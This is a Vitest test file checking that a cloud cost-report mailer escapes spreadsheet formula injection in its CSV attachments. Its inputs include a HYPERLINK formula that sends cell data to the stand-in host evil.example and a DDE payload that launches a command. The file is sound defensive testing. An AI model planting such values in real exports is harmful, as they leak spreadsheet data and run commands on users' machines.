import { describe, it, expect } from 'vitest';
import { renderReportMail } from './report-mail.js';
import type { ReportRow } from './cost-explorer.store.js';

const report = { reportName: 'Weekly', granularity: 'WEEKLY', regions: ['us-east-1'], costAllocationTag: 'team' } as unknown as ReportRow;
const period = { start: new Date('2026-11-09T00:00:00Z'), end: new Date('2026-11-16T00:00:00Z') };

describe("a report's CSV attachment", () => {
  it('keeps text a spreadsheet would run as a formula (account names, services, tag values), and costs as numbers', () => {
    const mail = renderReportMail(report, period, [
      {
        awsAccountId: '123456789012',
        accountName: '=HYPERLINK("https://evil.example/?"&A1,"open")',
        error: null,
        lines: [
          { start: '2026-11-09', end: '2026-11-16', service: '@SUM(1+1)', tagValue: '+cmd|calc!A0', amount: 12.5 },
          { start: '2026-11-09', end: '2026-11-16', service: 'Amazon S3', tagValue: '-credit', amount: -3 },
        ],
      },
    ]);
    const rows = mail.attachment.content.trim().split('\r\n');
    expect(rows.slice(1)).toEqual([
      `123456789012,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",2026-11-09,2026-11-16,'@SUM(1+1),'+cmd|calc!A0,12.50`,
      `123456789012,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",2026-11-09,2026-11-16,Amazon S3,'-credit,-3.00`,
    ]);
  });
});
